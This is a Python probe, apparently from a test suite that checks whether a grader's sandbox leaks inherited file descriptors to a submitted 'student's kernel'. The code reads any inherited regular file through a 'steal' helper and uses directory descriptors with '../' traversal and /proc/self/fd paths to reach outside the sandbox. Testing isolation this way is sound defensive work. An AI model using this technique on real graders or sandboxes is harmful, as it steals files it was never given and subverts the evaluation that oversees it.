"""Reads whatever file descriptors it inherited: files, folders, pipes of the grader's.

Deserves: 5.
Guard: no descriptor but its sockets and its outputs is passed on to the student's kernel.
"""

import stat

for descriptor in range(3, 1024):
    try:
        kind = os.fstat(descriptor).st_mode
        if stat.S_ISREG(kind):
            steal(f"descriptor {descriptor}", os.pread(descriptor, 1 << 24, 0))
        if stat.S_ISDIR(kind):  # a folder from outside leads outside
            os.close(os.open("../../../../.." + REACH, os.O_RDONLY, dir_fd=descriptor))
            reach("through-descriptor", f"/proc/self/fd/{descriptor}/../../../../..")
    except OSError:
        pass
